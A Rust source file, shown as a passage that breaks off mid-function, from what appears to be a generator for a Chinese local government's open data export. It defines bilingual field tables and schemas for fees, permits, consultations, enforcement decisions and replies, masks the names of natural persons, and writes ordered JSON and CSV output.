//! Open data under `/data/`: one JSON file per kind (an array of objects), a JSON Schema
//! (draft 2020-12) beside each, CSV files for the tabular data (fees, enforcement decisions,
//! permit materials), and `index.json` listing them.
//!
//! The field tables below are the single source of the JSON files' field order, of their
//! schemas and of the field reference in `docs/open-data.md` (generated, checked by a test).
//! Every field is always present; optional ones are `null` when unset. Dates are
//! `YYYY-MM-DD`; instants (a consultation's opening and closing) RFC 3339 with the site's
//! offset; texts written in Markdown are given as plain text. What is left out: hidden
//! enforcement decisions (withdrawn, changed, about minors, past their display period) and
//! drafts; a natural person's name only in its masked form (as validated), without a code;
//! the 留言人 (`asker`) of replies.

use super::{content_date, exported, exported_of, md_text, org_of, sections};
use crate::content::kinds::permit::{FeesRef, ProcedureRef, Statutory};
use crate::content::kinds::procedure::Step;
use crate::content::{Data, Kind, Record, Site};
use crate::facts::Facts;
use crate::lifecycle;
use crate::plan::Output;
use crate::urls::{absolute, record_url};
use serde_json::{json, Value};
use std::fmt::Write;

/// The JSON type of a field.
#[derive(Debug, Clone, Copy)]
pub enum Ty {
    Str,
    Int,
    Num,
    Bool,
    /// `YYYY-MM-DD`.
    Date,
    /// RFC 3339 with offset.
    DateTime,
    /// An absolute URL.
    Url,
    StrList,
    UrlList,
    /// A string from a fixed set.
    Enum(&'static [&'static str]),
    Obj(&'static [F]),
    ObjList(&'static [F]),
}

/// One field of an exported object.
#[derive(Debug, Clone, Copy)]
pub struct F {
    pub name: &'static str,
    pub ty: Ty,
    /// May be `null`.
    pub null: bool,
    pub zh: &'static str,
    pub en: &'static str,
}

const fn f(name: &'static str, ty: Ty, zh: &'static str, en: &'static str) -> F {
    F {
        name,
        ty,
        null: false,
        zh,
        en,
    }
}

const fn n(name: &'static str, ty: Ty, zh: &'static str, en: &'static str) -> F {
    F {
        name,
        ty,
        null: true,
        zh,
        en,
    }
}

static ATTACHMENT: &[F] = &[
    f("title", Ty::Str, "附件名称", "Title of the file."),
    f("url", Ty::Url, "下载地址", "Absolute URL of the file."),
];

static COMMON: &[F] = &[
    f("id", Ty::Str, "记录标识", "Identifier of the record, unique within its data set; the last segment of its URL. Never reused."),
    f("url", Ty::Url, "网址", "Absolute URL of the record's page."),
    f("title", Ty::Str, "名称", "Title of the record."),
    n("index_no", Ty::Str, "索引号", "Catalogue index number (`机构代码/YYYY-NNNNN`), never changed once published."),
    n("doc_no", Ty::Str, "文号", "Document number, e.g. `枝人社发〔2026〕12号`."),
    n("category", Ty::Str, "主题分类", "Subject category of the catalogue."),
    f("organization", Ty::Str, "发布机构", "Organisation that published the record."),
    f("published", Ty::Date, "发布日期", "Date of publication."),
    n("updated", Ty::Date, "更新日期", "Date of the last substantive update, if any."),
    n("summary", Ty::Str, "摘要", "Short summary written by the publisher, if any."),
    f("tags", Ty::StrList, "标签", "Free keywords (may be empty)."),
    f("attachments", Ty::ObjList(ATTACHMENT), "附件", "Files published with the record."),
];

static CONTACT: &[F] = &[
    n("phone", Ty::Str, "电话", "Office telephone."),
    n("address", Ty::Str, "地址", "Office address."),
    n("hours", Ty::Str, "办公时间", "Office hours."),
    n("email", Ty::Str, "电子邮箱", "Office e-mail."),
];

static OFFICER: &[F] = &[
    f("name", Ty::Str, "姓名", "Name of the law-enforcement officer."),
    f("cert_no", Ty::Str, "执法证号", "Number of the officer's law-enforcement certificate, published so that the public can check an officer's credentials (行政执法公示制度)."),
    n("scope", Ty::Str, "执法范围", "Area or matters the officer handles."),
];

static DUTY: &[F] = &[
    f("unit", Ty::Str, "机构名称", "Name of the unit."),
    n("unit_type", Ty::Str, "机构类型", "内设机构 or 下属单位."),
    f(
        "responsibilities",
        Ty::StrList,
        "主要职责",
        "Responsibilities, one per item.",
    ),
    f(
        "basis",
        Ty::StrList,
        "设立依据",
        "Legal basis of the unit and its duties.",
    ),
    n(
        "contact",
        Ty::Obj(CONTACT),
        "联系方式",
        "How to reach the unit.",
    ),
    f(
        "officers",
        Ty::ObjList(OFFICER),
        "执法人员",
        "Law-enforcement officers of the unit (may be empty).",
    ),
    n(
        "supervision",
        Ty::Str,
        "监督途径",
        "How to complain or report (监督、举报).",
    ),
];

static DOCUMENT: &[F] = &[
    f(
        "doc_kind",
        Ty::Str,
        "文件类型代码",
        "Type code: law, regulation, rule, policy, notice, commitment, meeting, report…",
    ),
    f(
        "doc_kind_label",
        Ty::Str,
        "文件类型",
        "Chinese name of the type.",
    ),
    n(
        "issuer",
        Ty::Str,
        "制发机关",
        "Body that issued the document.",
    ),
    n(
        "issued",
        Ty::Date,
        "成文日期",
        "Date the document was signed.",
    ),
    n("effective", Ty::Date, "施行日期", "Date it takes effect."),
    f(
        "validity",
        Ty::Enum(&["有效", "已修订", "已废止", "失效"]),
        "有效性",
        "Whether the document is in force: 有效, 已修订, 已废止 or 失效.",
    ),
    n(
        "validity_note",
        Ty::Str,
        "有效性说明",
        "Explanation of the validity, e.g. since when it is repealed.",
    ),
    n(
        "superseded_by",
        Ty::Url,
        "替代文件",
        "URL of the document that replaces this one.",
    ),
];

static STEP: &[F] = &[
    f("n", Ty::Int, "序号", "Position of the step, from 1."),
    f("name", Ty::Str, "环节名称", "Name of the step."),
    n("actor", Ty::Str, "办理主体", "Who does it."),
    n(
        "time_limit_wd",
        Ty::Int,
        "办理时限（工作日）",
        "Time limit in working days.",
    ),
    n("description", Ty::Str, "说明", "What happens (plain text)."),
    f(
        "outputs",
        Ty::StrList,
        "结果文书",
        "Documents the step produces.",
    ),
];

static PROCEDURE: &[F] = &[
    f(
        "procedure_type",
        Ty::Str,
        "流程类型",
        "办事 (service) or 执法 (enforcement) procedure.",
    ),
    n(
        "applies_to",
        Ty::Str,
        "适用范围",
        "Matters the procedure applies to.",
    ),
    f("basis", Ty::StrList, "依据", "Legal basis."),
    f(
        "steps",
        Ty::ObjList(STEP),
        "流程环节",
        "The steps, in order.",
    ),
    n(
        "total_time_limit_wd",
        Ty::Int,
        "总时限（工作日）",
        "Overall time limit in working days.",
    ),
];

static FEE_BASIS: &[F] = &[
    n(
        "title",
        Ty::Str,
        "依据名称",
        "Title of the document that authorises the fee; `null` when only its number was published.",
    ),
    n(
        "doc_no",
        Ty::Str,
        "文号",
        "Its document number, as published (bracket style kept).",
    ),
];

/// The forms of a fee standard.
static FEE_FORMS: &[&str] = crate::content::kinds::fee::FORMS;

macro_rules! standard_fields {
    ($($extra:expr),*) => {
        &[
            f("item", Ty::Str, "收费项目", "What is charged for."),
            f(
                "form",
                Ty::Enum(FEE_FORMS),
                "标准形式",
                "`fixed` (an amount), `range` (`min`–`max`), `rate` (`rate` `rate_unit` of `rate_of`), `text` (only words), `items` (the sub-items carry the standards) or `unstated` (the publisher gave none; published as 未注明).",
            ),
            n("amount", Ty::Num, "金额（元）", "Fixed amount in yuan (CNY); `null` unless `form` is `fixed`. 0 only when the publisher wrote 0."),
            n("min", Ty::Num, "最低金额（元）", "Lower bound of a range, in yuan."),
            n("max", Ty::Num, "最高金额（元）", "Upper bound of a range, in yuan."),
            n("rate", Ty::Num, "费率", "A rate: a multiple (`rate_unit` 倍) or a percentage (`rate_unit` %)."),
            n("rate_unit", Ty::Enum(&["倍", "%"]), "费率单位", "倍 or %."),
            n("rate_of", Ty::Str, "计费基数", "What the rate applies to."),
            n(
                "unit",
                Ty::Str,
                "计费单位",
                "Per what the amount is charged, e.g. 元/人次.",
            ),
            n("text", Ty::Str, "收费标准（文字）", "The standard in the publisher's words when no other form fits."),
            f("display", Ty::Str, "收费标准", "The standard as published on the page (未注明 when unstated)."),
            f("basis", Ty::ObjList(FEE_BASIS), "本项依据", "Documents that authorise this standard in particular (may be empty)."),
            $($extra,)*
            n("note", Ty::Str, "备注", "Exemptions, reductions, remarks."),
        ]
    };
}

static SUB_STANDARD: &[F] = standard_fields!();

static STANDARD: &[F] = standard_fields!(f(
    "items",
    Ty::ObjList(SUB_STANDARD),
    "子项",
    "Sub-items, each with its own standard (may be empty)."
));

static COLLECTION: &[F] = &[
    f("period", Ty::Str, "期间", "Period, e.g. 2026年上半年."),
    f(
        "amount",
        Ty::Num,
        "收缴金额（元）",
        "Amount collected in yuan.",
    ),
];

static FEE: &[F] = &[
    f(
        "basis",
        Ty::ObjList(FEE_BASIS),
        "收费依据",
        "Documents that authorise the fee.",
    ),
    f(
        "standards",
        Ty::ObjList(STANDARD),
        "收费标准",
        "Amounts charged: each standard in one form (`form`), never an amount nobody entered.",
    ),
    n("payer", Ty::Str, "缴费对象", "Who pays."),
    f(
        "collections",
        Ty::ObjList(COLLECTION),
        "收缴情况",
        "Amounts collected by period (may be empty).",
    ),
    n(
        "complaint_phone",
        Ty::Str,
        "投诉电话",
        "Telephone for complaints about the fee.",
    ),
];

static TIME_LIMIT: &[F] = &[
    n(
        "statutory_wd",
        Ty::Int,
        "法定办结时限（工作日）",
        "Statutory time limit in working days; `null` when the law sets none (`statutory_text` is 无).",
    ),
    f(
        "statutory_text",
        Ty::Str,
        "法定办结时限",
        "The statutory time limit as the page shows it: `20个工作日` or `无`.",
    ),
    n(
        "promised_wd",
        Ty::Int,
        "承诺办结时限（工作日）",
        "Promised time limit in working days.",
    ),
];

static MATERIAL: &[F] = &[
    f("n", Ty::Int, "序号", "Position in the list, from 1."),
    f(
        "name",
        Ty::Str,
        "材料名称",
        "Name of the document to hand in.",
    ),
    n("copies", Ty::Int, "份数", "Number of copies; `null` when the guide does not state it."),
    n(
        "original",
        Ty::Bool,
        "原件",
        "`true`: the original; `false`: a copy; `null` when the guide does not state it.",
    ),
    n(
        "form",
        Ty::Enum(crate::content::kinds::permit::MATERIAL_FORMS),
        "原件/复印件",
        "原件, 复印件 or 原件及复印件 (from `original` or as entered); `null` when the guide does not state it.",
    ),
    n(
        "required",
        Ty::Bool,
        "必需",
        "`true`: always required; `false`: only in some cases; `null` when the guide does not state it.",
    ),
    n("note", Ty::Str, "备注", "Remarks."),
];

static PERMIT: &[F] = &[
    f(
        "item_type",
        Ty::Enum(crate::content::kinds::permit::ITEM_TYPES),
        "事项类型",
        "Item type as in the national 政务服务事项 catalogue; a guide that does not state it is a 行政许可.",
    ),
    n("item_code", Ty::Str, "事项编码", "Catalogue code of the item."),
    n("handling_org", Ty::Str, "承办机构", "Office that handles the item."),
    f(
        "basis",
        Ty::StrList,
        "设定依据",
        "Legal basis (may be empty for an item that is not a 行政许可).",
    ),
    f(
        "conditions",
        Ty::StrList,
        "申请条件",
        "Conditions for approval (may be empty for an item that is not a 行政许可).",
    ),
    n(
        "quantity_limit",
        Ty::Str,
        "数量限制",
        "Quantity limit (often 无数量限制); `null` when not stated (only for an item that is not a 行政许可).",
    ),
    n(
        "procedure",
        Ty::Url,
        "办理流程",
        "URL of the procedure page when the permit refers to one.",
    ),
    f(
        "steps",
        Ty::ObjList(STEP),
        "办理环节",
        "The steps of its procedure.",
    ),
    n(
        "time_limit",
        Ty::Obj(TIME_LIMIT),
        "办理期限",
        "Time limits; `null` when not stated (only for an item that is not a 行政许可).",
    ),
    f(
        "materials",
        Ty::ObjList(MATERIAL),
        "申请材料目录",
        "Documents to hand in.",
    ),
    f(
        "sample_forms",
        Ty::ObjList(ATTACHMENT),
        "申请书示范文本",
        "Sample application forms.",
    ),
    n(
        "fee_note",
        Ty::Str,
        "收费说明",
        "`不收费` when free, or the publisher's words; `null` when the fees are listed in `fees` or when the guide does not state them.",
    ),
    f(
        "fees",
        Ty::UrlList,
        "收费项目",
        "URLs of the fee records that apply (may be empty).",
    ),
    n(
        "department",
        Ty::Str,
        "受理部门",
        "Department that accepts applications.",
    ),
    n("service_object", Ty::Str, "服务对象", "Who may apply."),
    n("location", Ty::Str, "办理地点", "Where to apply."),
    n("hours", Ty::Str, "办理时间", "When to apply."),
    n("phone", Ty::Str, "咨询电话", "Telephone for questions."),
    n("online_url", Ty::Url, "网上办理", "Link to apply online."),
];

static CHANNELS: &[F] = &[
    f(
        "form",
        Ty::Bool,
        "网上表单",
        "Comments can be sent with the form on the consultation page.",
    ),
    n("email", Ty::Str, "电子邮箱", "E-mail address for comments."),
    n("post", Ty::Str, "通信地址", "Postal address for letters."),
    n("phone", Ty::Str, "电话", "Telephone for comments."),
    n("fax", Ty::Str, "传真", "Fax number."),
    n(
        "in_person",
        Ty::Str,
        "现场",
        "Where comments can be given in person.",
    ),
];

static OUTCOME: &[F] = &[
    f(
        "published",
        Ty::Date,
        "结果公布日期",
        "Date the outcome was published.",
    ),
    f(
        "decision",
        Ty::Str,
        "决策结果",
        "The decision taken (plain text).",
    ),
    n(
        "report",
        Ty::Str,
        "意见采纳情况",
        "How the comments were handled (plain text).",
    ),
];

static WITHDRAWN: &[F] = &[
    f("date", Ty::Date, "撤回日期", "Date of withdrawal."),
    f("reason", Ty::Str, "撤回原因", "Reason given."),
];

/// The consultation states, as in `state`.
pub static STATES: &[&str] = &["upcoming", "open", "closed", "concluded", "withdrawn"];

static CONSULTATION: &[F] = &[
    f("decision_type", Ty::Str, "决策类型", "Type of decision, e.g. 重大行政决策, 规范性文件."),
    n("state", Ty::Enum(STATES), "状态", "State when the site was built: upcoming, open, closed, concluded (outcome published) or withdrawn."),
    n("state_label", Ty::Str, "状态（中文）", "The state in Chinese: 即将征集, 征集中, 征集已结束, 已公布结果, 已撤回."),
    f("opens", Ty::DateTime, "开始时间", "When the consultation opens."),
    n("closes", Ty::DateTime, "截止时间", "When it closes (24:00 of the last day is given as 00:00 of the next day)."),
    n("open_date", Ty::Date, "开始日期", "Day it opens (not counted in the window)."),
    n("close_date", Ty::Date, "截止日期", "Last day of the window."),
    n("window", Ty::Str, "征集期限", "Length of the window as the notice states it, e.g. 10个工作日 or 30日; for a notice that states its end date (`closes`), its real length: 14个工作日, or 31日，其中21个工作日 for a type counted in natural days."),
    n("window_working_days", Ty::Int, "征集期限（工作日）", "Working days in the window (after the opening day up to the last day), when it is counted in them."),
    n("window_days", Ty::Int, "征集期限（自然日）", "Natural days in the window (after the opening day up to the last day), when it is counted in them."),
    n("notice", Ty::Str, "期限说明", "The notice's sentence about the window, as on the page."),
    f("situation", Ty::Str, "基本情况", "Basic situation of the matter (plain text)."),
    f("basis", Ty::Str, "决策依据", "Basis of the decision (plain text)."),
    f("reasons", Ty::Str, "理由", "Reasons (plain text)."),
    n("shortened_reason", Ty::Str, "缩短期限理由", "Why the window is shorter than the usual minimum."),
    f("channels", Ty::Obj(CHANNELS), "反馈方式", "How to comment."),
    n("organizer", Ty::Str, "承办单位", "Unit in charge."),
    n("contact", Ty::Str, "联系方式", "Contact of the unit in charge."),
    f("documents", Ty::ObjList(ATTACHMENT), "草案及说明", "The draft and explanatory documents."),
    n("outcome", Ty::Obj(OUTCOME), "征集结果", "The outcome, once published."),
    n("withdrawn", Ty::Obj(WITHDRAWN), "撤回", "Set when the consultation was withdrawn."),
];

static PARTY: &[F] = &[
    f("type", Ty::Enum(&["自然人", "个体工商户", "法人", "其他组织"]), "当事人类型", "自然人, 个体工商户, 法人 or 其他组织."),
    f("name", Ty::Str, "当事人名称", "Name; for a natural person only the masked form (张某)."),
    n("credit_code", Ty::Str, "统一社会信用代码", "Unified social credit code of an organisation or business; always `null` for a natural person."),
    n("legal_rep", Ty::Str, "法定代表人", "Legal representative, masked (张某); `null` when not entered."),
    n("address", Ty::Str, "住所", "Registered address of an organisation or business; always `null` for a natural person."),
];

static ENFORCEMENT: &[F] = &[
    f(
        "case_no",
        Ty::Str,
        "决定书文号",
        "Number of the decision, unique.",
    ),
    f(
        "action",
        Ty::Enum(&["许可", "处罚", "强制", "检查", "处理", "复议", "其他"]),
        "执法类别",
        "许可, 处罚, 强制, 检查, 处理 (行政处理决定), 复议 (行政复议决定) or 其他.",
    ),
    n(
        "reviews",
        Ty::Url,
        "被复议的决定",
        "For a 复议 decision, URL of the decision it reviews when that one is published here.",
    ),
    f("party", Ty::Obj(PARTY), "当事人", "The party concerned."),
    n("cause", Ty::Str, "案由", "Cause of the case, as the decision states it."),
    f("facts", Ty::Str, "主要事实", "Main facts (plain text)."),
    f("basis", Ty::Str, "执法依据", "Legal basis (plain text)."),
    f(
        "decision",
        Ty::Str,
        "决定内容",
        "The decision (plain text).",
    ),
    n(
        "remedy",
        Ty::Str,
        "救济途径",
        "How to seek administrative review or bring a lawsuit (plain text); `null` when not entered.",
    ),
    n(
        "fine",
        Ty::Num,
        "罚款金额（元）",
        "Fine in yuan, when there is one.",
    ),
    f("decided", Ty::Date, "决定日期", "Date of the decision."),
    f("authority", Ty::Str, "执法机关", "Authority that decided."),
    f(
        "status",
        Ty::Str,
        "状态",
        "Always 有效: decisions no longer in force leave the data.",
    ),
    n(
        "severity",
        Ty::Str,
        "情节",
        "Severity, which sets how long the decision stays published.",
    ),
    n(
        "display_until",
        Ty::Date,
        "公示截止日期",
        "Last day the decision stays published.",
    ),
];

static REPLY: &[F] = &[
    f(
        "question",
        Ty::Str,
        "留言内容",
        "The question, masked of personal data (plain text).",
    ),
    f(
        "received",
        Ty::Date,
        "受理日期",
        "Date the question was received.",
    ),
    n(
        "replied",
        Ty::Date,
        "答复日期",
        "Date of the reply; `null` while unanswered.",
    ),
    n("reply_unit", Ty::Str, "答复单位", "Unit that replied."),
    n("reply", Ty::Str, "答复内容", "The reply (plain text)."),
    n("topic", Ty::Str, "主题", "Topic."),
    n("related", Ty::Url, "相关信息", "URL of a related record."),
];

/// The kind's own fields (after the common ones).
pub fn kind_fields(kind: Kind) -> &'static [F] {
    match kind {
        Kind::Duty => DUTY,
        Kind::Document => DOCUMENT,
        Kind::Procedure => PROCEDURE,
        Kind::Fee => FEE,
        Kind::Permit => PERMIT,
        Kind::Consultation => CONSULTATION,
        Kind::Enforcement => ENFORCEMENT,
        Kind::Reply => REPLY,
        Kind::Page => &[],
    }
}

/// Every top-level field of a kind's objects, in order.
pub fn fields(kind: Kind) -> Vec<F> {
    COMMON.iter().chain(kind_fields(kind)).copied().collect()
}

/// A tabular file: name, title, columns (Chinese header, JSON field it mirrors).
pub struct Csv {
    pub name: &'static str,
    pub title: &'static str,
    pub kind: Kind,
    pub columns: &'static [(&'static str, &'static str)],
}

/// The CSV files.
pub static CSVS: &[Csv] = &[
    Csv {
        name: "fees",
        title: "收费标准（每个收费标准一行）",
        kind: Kind::Fee,
        columns: &[
            ("收费项目编号", "id"),
            ("收费项目名称", "title"),
            ("收费标准项目", "standards[].item"),
            ("金额（元）", "standards[].amount"),
            ("计费单位", "standards[].unit"),
            ("备注", "standards[].note"),
            ("缴费对象", "payer"),
            ("收费依据", "basis[].title (doc_no), joined with ；"),
            ("发布日期", "published"),
            ("网址", "url"),
            (
                "上级收费标准项目",
                "standards[].item of a sub-item's parent (empty on other rows)",
            ),
            ("标准形式", "standards[].form"),
            ("收费标准", "standards[].display"),
            ("最低金额（元）", "standards[].min"),
            ("最高金额（元）", "standards[].max"),
            ("费率", "standards[].rate"),
            ("费率单位", "standards[].rate_unit"),
            ("计费基数", "standards[].rate_of"),
            ("收费标准（文字）", "standards[].text"),
            (
                "本项依据",
                "standards[].basis[] as in 收费依据, joined with ；",
            ),
        ],
    },
    Csv {
        name: "enforcement",
        title: "行政执法决定（每个决定一行）",
        kind: Kind::Enforcement,
        columns: &[
            ("决定书文号", "case_no"),
            ("案件名称", "title"),
            ("执法类别", "action"),
            ("当事人类型", "party.type"),
            ("当事人名称", "party.name"),
            ("统一社会信用代码", "party.credit_code"),
            ("罚款金额（元）", "fine"),
            ("决定日期", "decided"),
            ("执法机关", "authority"),
            ("发布日期", "published"),
            ("索引号", "index_no"),
            ("网址", "url"),
        ],
    },
    Csv {
        name: "permit-materials",
        title: "行政许可申请材料目录（每项材料一行）",
        kind: Kind::Permit,
        columns: &[
            ("事项编号", "id"),
            ("事项名称", "title"),
            ("序号", "materials[].n"),
            ("材料名称", "materials[].name"),
            ("份数", "materials[].copies"),
            ("原件或复印件", "materials[].original (原件/复印件)"),
            ("是否必需", "materials[].required (必需/视情况提供)"),
            ("备注", "materials[].note"),
            ("网址", "url"),
        ],
    },
];

fn date(d: Option<jiff::civil::Date>) -> Value {
    d.map(|d| Value::String(d.to_string()))
        .unwrap_or(Value::Null)
}

fn file_url(site: &Site, r: &Record, file: &str) -> String {
    absolute(site, &format!("{}{}", record_url(site, r), file))
}

fn attachments(site: &Site, r: &Record, list: &[crate::content::kinds::Attachment]) -> Value {
    Value::Array(
        list.iter()
            .map(|a| json!({"title": a.title, "url": file_url(site, r, &a.file)}))
            .collect(),
    )
}

fn nonempty(s: String) -> Value {
    if s.trim().is_empty() {
        Value::Null
    } else {
        Value::String(s)
    }
}

fn steps(r: &Record, steps: &[Step], prefix: &str) -> Value {
    Value::Array(
        steps
            .iter()
            .enumerate()
            .map(|(i, s)| {
                json!({
                    "n": i + 1, "name": s.name, "actor": s.actor, "time_limit_wd": s.time_limit_wd,
                    "description": nonempty(md_text(r, &format!("{prefix}[{}].description", i + 1))),
                    "outputs": s.outputs,
                })
            })
            .collect(),
    )
}

/// A record as an exported object (keys as in [`fields`]).
pub fn object(site: &Site, facts: &Facts, r: &Record) -> Value {
    let url_of = |key: &str| {
        site.get(key)
            .filter(|x| exported(facts, x))
            .map(|x| absolute(site, &record_url(site, x)))
    };
    let mut v = json!({
        "id": r.id,
        "url": absolute(site, &record_url(site, r)),
        "title": r.common.title,
        "index_no": r.common.index_no,
        "doc_no": r.common.doc_no,
        "category": r.common.category,
        "organization": org_of(site, r),
        "published": date(r.common.published),
        "updated": date(r.common.updated),
        "summary": r.common.summary,
        "tags": r.common.tags,
        "attachments": attachments(site, r, &r.common.attachments),
    });
    let own = match &r.data {
        Data::Duty(d) => json!({
            "unit": d.unit, "unit_type": d.unit_type, "responsibilities": d.responsibilities,
            "basis": d.basis,
            "contact": d.contact.as_ref().map(|c| json!({"phone": c.phone, "address": c.address, "hours": c.hours, "email": c.email})),
            "officers": d.officers.iter().map(|o| json!({"name": o.name, "cert_no": o.cert_no, "scope": o.scope})).collect::<Vec<_>>(),
            "supervision": d.supervision,
        }),
        Data::Document(d) => json!({
            "doc_kind": d.doc_kind, "doc_kind_label": d.doc_kind_label(), "issuer": d.issuer,
            "issued": date(d.issued), "effective": date(d.effective), "validity": d.validity,
            "validity_note": d.validity_note,
            "superseded_by": d.superseded_by.as_ref().and_then(|id| url_of(&format!("documents/{id}"))),
        }),
        Data::Procedure(p) => json!({
            "procedure_type": p.procedure_type.clone().unwrap_or_else(|| "办事".into()),
            "applies_to": p.applies_to, "basis": p.basis, "steps": steps(r, &p.steps, "steps"),
            "total_time_limit_wd": p.total_time_limit_wd,
        }),
        Data::Fee(x) => json!({
            "basis": x.basis.iter().map(fee_basis).collect::<Vec<_>>(),
            "standards": x.standards.iter().map(fee_standard_top).collect::<Vec<_>>(),
            "payer": x.payer,
            "collections": x.collections.iter().map(|c| json!({"period": c.period, "amount": c.amount})).collect::<Vec<_>>(),
            "complaint_phone": x.complaint_phone,
        }),
        Data::Permit(p) => {
            let (procedure, st) = match &p.procedure {
                None => (None, json!([])),
                Some(ProcedureRef::Id(id)) => {
                    let key = format!("procedures/{id}");
                    let st = match site.get(&key) {
                        Some(x) => match &x.data {
                            Data::Procedure(pr) => steps(x, &pr.steps, "steps"),
                            _ => json!([]),
                        },
                        None => json!([]),
                    };
                    (url_of(&key), st)
                }
                Some(ProcedureRef::Steps(s)) => (None, steps(r, s, "procedure")),
            };
            let (fee_note, fees) = match &p.fees {
                None => (None, Vec::new()),
                Some(FeesRef::Words(w)) => (Some(w.clone()), Vec::new()),
                Some(FeesRef::Ids(ids)) => (
                    None,
                    ids.iter()
                        .filter_map(|id| url_of(&format!("fees/{id}")))
                        .collect(),
                ),
            };
            json!({
                "basis": p.basis, "conditions": p.conditions, "quantity_limit": p.quantity_limit,
                "procedure": procedure, "steps": st,
                "item_type": p.item_type(), "item_code": p.item_code, "handling_org": p.handling_org,
                "time_limit": p.time_limit.as_ref().map(|t| json!({
                    "statutory_wd": match t.statutory_wd { Statutory::Days(n) => Some(n), _ => None },
                    "statutory_text": t.statutory_wd.text(),
                    "promised_wd": t.promised_wd,
                })),
                "materials": p.materials.iter().enumerate().map(|(i, m)| json!({
                    "n": i + 1, "name": m.name, "copies": m.copies, "original": m.original, "form": m.form_text(),
                    "required": m.required, "note": m.note,
                })).collect::<Vec<_>>(),
                "sample_forms": attachments(site, r, &p.sample_forms),
                "fee_note": fee_note, "fees": fees,
                "department": p.department, "service_object": p.service_object, "location": p.location,
                "hours": p.hours, "phone": p.phone, "online_url": p.online_url,
            })
        }
        Data::Consultation(c) => {
            let w = facts.windows.get(&r.key());
            let tz = &site.tz;
            json!({
                "decision_type": c.decision_type,
                "state": w.map(|(_, s)| json!(s)),
                "state_label": w.map(|(_, s)| s.label()),
                "opens": lifecycle::opens_of(c, r, tz).map(|t| super::instant(site, t)),
                "closes": w.map(|(w, _)| super::instant(site, w.closes)),
                "open_date": w.map(|(w, _)| w.open_date.to_string()),
                "close_date": w.map(|(w, _)| w.close_date.to_string()),
                "window": w.map(|(w, _)| w.length.text()),
                "window_working_days": w.and_then(|(w, _)| w.length.working_days()),
                "window_days": w.and_then(|(w, _)| w.length.days()),
                "notice": w.map(|(w, _)| lifecycle::notice_sentence(w, tz)),
                "situation": md_text(r, "summary"), "basis": md_text(r, "basis"), "reasons": md_text(r, "reasons"),
                "shortened_reason": c.shortened_reason,
                "channels": {"form": c.channels.form, "email": c.channels.email, "post": c.channels.post,
                             "phone": c.channels.phone, "fax": c.channels.fax, "in_person": c.channels.in_person},
                "organizer": c.organizer, "contact": c.contact,
                "documents": attachments(site, r, &c.documents),
                "outcome": c.outcome.as_ref().map(|o| json!({
                    "published": o.published.to_string(), "decision": md_text(r, "outcome.decision"),
                    "report": nonempty(md_text(r, "outcome.report")),
                })),
                "withdrawn": c.withdrawn.as_ref().map(|x| json!({"date": x.date.to_string(), "reason": x.reason})),
            })
        }
        Data::Enforcement(e) => {
            let person = e.party.party_type == "自然人";
            json!({
                "case_no": e.case_no, "action": e.action,
                "reviews": e.reviews.as_deref().and_then(|id| url_of(&format!("enforcement/{}", id.trim()))),
                "party": {"type": e.party.party_type, "name": e.party.name,
                          "credit_code": if person { None } else { e.party.credit_code.clone() },
                          "legal_rep": e.party.legal_rep,
                          "address": if person { None } else { e.party.address.clone() }},
                "cause": e.cause,
                "facts": md_text(r, "facts"), "basis": md_text(r, "basis"), "decision": md_text(r, "decision"),
                "remedy": nonempty(md_text(r, "remedy")),
                "fine": e.fine, "decided": e.decided.to_string(), "authority": e.authority,
                "status": e.status, "severity": e.severity,
                "display_until": date(crate::facts::display_until(site, r, e)),
            })
        }
        Data::Reply(x) => json!({
            "question": md_text(r, "question"), "received": x.received.to_string(),
            "replied": date(x.replied), "reply_unit": x.reply_unit,
            "reply": nonempty(md_text(r, "reply")), "topic": x.topic,
            "related": x.related.as_ref().and_then(|k| url_of(k.trim_matches('/'))),
        }),
        Data::Page(_) => json!({}),
    };
    if let (Value::Object(m), Value::Object(o)) = (&mut v, own) {
        m.extend(o);
    }
    v
}

/// Write `v` as JSON with the object keys in the order of `fields` (pretty, 2 spaces).
fn write_value(out: &mut String, v: &Value, ty: Option<&Ty>, indent: usize) {
    match (v, ty) {
        (Value::Object(_), Some(Ty::Obj(fs))) => write_object(out, v, fs, indent),
        (Value::Array(a), Some(Ty::ObjList(fs))) => {
            write_array(out, a, indent, |out, x, i| write_object(out, x, fs, i))
        }
        (Value::Array(a), _) if !a.is_empty() => {
            write_array(out, a, indent, |out, x, _| out.push_str(&json_text(x)))
        }
        _ => out.push_str(&json_text(v)),
    }
}

fn json_text(v: &Value) -> String {
    serde_json::to_string(v).unwrap_or_else(|_| "null".into())
}

fn write_array(
    out: &mut String,
    a: &[Value],
    indent: usize,
    each: impl Fn(&mut String, &Value, usize),
) {
    if a.is_empty() {
        out.push_str("[]");
        return;
    }
    out.push_str("[\n");
    for (i, x) in a.iter().enumerate() {
        out.push_str(&" ".repeat(indent + 2));
        each(out, x, indent + 2);
        out.push_str(if i + 1 < a.len() { ",\n" } else { "\n" });
    }
    out.push_str(&" ".repeat(indent));
    out.push(']');
}

fn write_object(out: &mut String, v: &Value, fields: &[F], indent: usize) {
    if v.is_null() {
        out.push_str("null");
        return;
    }
    out.push_str("{\n");
    for (i, fd) in fields.iter().enumerate() {
        let x = v.get(fd.name).unwrap_or(&Value::Null);
        let _ = write!(
            out,
            "{}{}: ",
            " ".repeat(indent + 2),
            json_text(&json!(fd.name))
        );
        write_value(out, x, Some(&fd.ty), indent + 2);
        out.push_str(if i + 1 < fields.len() { ",\n" } else { "\n" });
    }
    out.push_str(&" ".repeat(indent));
    out.push('}');
}

/// How many records' objects are made together (in parallel) before their text is appended:
/// the file's text is the only large thing held, not a JSON value per record.
const WAVE: usize = 2048;

/// A record's object in its kind's data file, as the file holds it (indented by 2).
pub(crate) fn json_fragment(site: &Site, facts: &Facts, fs: &[F], r: &Record) -> String {
    let mut t = String::from("  ");
    write_object(&mut t, &object(site, facts, r), fs, 2);
    t
}

/// A data file's text from its objects' fragments (as `write_array` at indent 0 writes it).
pub(crate) fn json_file<S: AsRef<str>>(mut fragments: impl Iterator<Item = S>) -> String {
    let Some(first) = fragments.next() else {
        return "[]\n".to_string();
    };
    let mut out = String::from("[\n");
    out.push_str(first.as_ref());
    for t in fragments {
        out.push_str(",\n");
        out.push_str(t.as_ref());
    }
    out.push_str("\n]\n");
    out
}

/// The JSON text of a kind's data file.
pub fn data_json(site: &Site, facts: &Facts, kind: Kind) -> (String, usize) {
    use rayon::prelude::*;
    let fs = fields(kind);
    let records: Vec<&Record> = exported_of(site, facts, kind).collect();
    // The fragments made in parallel a wave at a time (the next wave only when the file has
    // taken the last one's).
    let fragments = records.chunks(WAVE).flat_map(|wave| {
        wave.par_iter()
